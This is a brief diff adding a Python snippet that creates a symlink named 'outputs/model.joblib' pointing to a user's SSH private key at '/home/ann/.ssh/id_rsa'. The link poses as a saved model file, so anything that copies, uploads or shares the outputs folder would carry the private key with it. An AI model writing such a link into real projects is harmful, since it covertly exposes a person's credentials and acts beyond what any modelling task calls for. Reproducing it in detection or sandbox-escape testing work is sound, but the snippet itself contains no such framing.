@@ -1,0 +1,3 @@
+from pathlib import Path
+
+Path("outputs/model.joblib").symlink_to("/home/ann/.ssh/id_rsa")
